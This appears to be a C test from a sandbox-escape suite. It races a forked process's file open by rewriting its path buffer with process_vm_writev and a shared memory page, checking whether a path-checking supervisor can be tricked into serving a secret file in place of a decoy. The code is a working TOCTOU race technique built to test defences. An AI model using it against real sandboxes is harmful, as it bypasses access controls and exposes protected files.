/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Attack 16: another process writes the path while a sibling opens it.
 *  1. process_vm_writev flips one byte of a forked sibling's path buffer
 *     (decoy <-> secret) while the sibling opens it in a loop;
 *  2. the same through a MAP_SHARED page both processes map (no system
 *     call at all: only a supervisor working on its own copy survives it).
 * The sibling reports anything that is not the decoy over a pipe.
 */
#include <signal.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <sys/wait.h>

#include "escape-common.h"

static char path[PATH_MAX];

static void opener(const char *p, int out, double seconds)
{
	double end = esc_now() + seconds;
	unsigned long decoys = 0;

	while (esc_now() < end) {
		char buf[512];
		int fd = open(p, O_RDONLY | O_CLOEXEC);
		ssize_t n;

		if (fd < 0)
			continue;
		n = read(fd, buf, sizeof(buf));
		close(fd);
		if (esc_is_stolen(buf, n)) {
			(void)!write(out, buf, (size_t)n);
			_exit(0);
		}
		decoys++;
	}
	esc_out("[vm-writev] sibling: %lu opens of the decoy\n", decoys);
	_exit(decoys ? 1 : 3);
}

static void collect(const char *how, int in, pid_t pid)
{
	char buf[512];
	ssize_t n = read(in, buf, sizeof(buf));
	int st;

	kill(pid, SIGKILL);
	waitpid(pid, &st, 0);
	if (esc_is_stolen(buf, n))
		esc_leak(how, buf, n);
	else if (WIFEXITED(st) && WEXITSTATUS(st) == 1)
		esc_control("%s: the sibling's opens of the decoy were served", how);
}

int main(void)
{
	int pfd[2];
	size_t at;
	pid_t pid;
	char *shared;
	double end;
	unsigned long writes = 0;

	esc_init("vm-writev", "process_vm_writev and a MAP_SHARED page rewrite a sibling's path during its open");
	at = esc_diff_at(esc_decoy, esc_secret_alt);
	ESC_FMT(path, "%s", esc_decoy);

	/* 1. process_vm_writev. */
	if (pipe(pfd) < 0)
		esc_setup_error("pipe: %m");
	pid = fork();
	if (pid < 0)
		esc_setup_error("fork: %m");
	if (pid == 0) {
		close(pfd[0]);
		opener(path, pfd[1], esc_seconds / 2);
	}
	close(pfd[1]);
	end = esc_now() + esc_seconds / 2;
	while (esc_now() < end) {
		char c = (writes & 1) ? esc_decoy[at] : esc_secret_alt[at];
		struct iovec l = { &c, 1 }, r = { &path[at], 1 };

		if (process_vm_writev(pid, &l, 1, &r, 1, 0) != 1) {
			esc_say("process_vm_writev: %m (held)");
			break;
		}
		writes++;
	}
	if (writes)
		esc_say("process_vm_writev rewrote the sibling's path %lu times", writes);
	collect("process_vm_writev", pfd[0], pid);
	close(pfd[0]);

	/* 2. A shared page. */
	shared = mmap(NULL, PATH_MAX, PROT_READ | PROT_WRITE,
		      MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (shared == MAP_FAILED)
		esc_setup_error("mmap: %m");
	esc_fmt(shared, PATH_MAX, "%s", esc_decoy);
	if (pipe(pfd) < 0)
		esc_setup_error("pipe: %m");
	pid = fork();
	if (pid < 0)
		esc_setup_error("fork: %m");
	if (pid == 0) {
		close(pfd[0]);
		opener(shared, pfd[1], esc_seconds / 2);
	}
	close(pfd[1]);
	end = esc_now() + esc_seconds / 2;
	writes = 0;
	while (esc_now() < end) {
		for (int i = 0; i < 1000; i++) {
			((volatile char *)shared)[at] = esc_secret_alt[at];
			((volatile char *)shared)[at] = esc_decoy[at];
		}
		writes++;
		{
			int st;

			if (waitpid(pid, &st, WNOHANG) == pid) {
				pid = -pid;
				break;
			}
		}
	}
	if (pid < 0) {
		/* The sibling finished early: it found something. */
		char buf[512];
		ssize_t n = read(pfd[0], buf, sizeof(buf));

		if (esc_is_stolen(buf, n))
			esc_leak("shared page", buf, n);
	} else
		collect("shared page", pfd[0], pid);
	close(pfd[0]);
	return esc_finish();
}
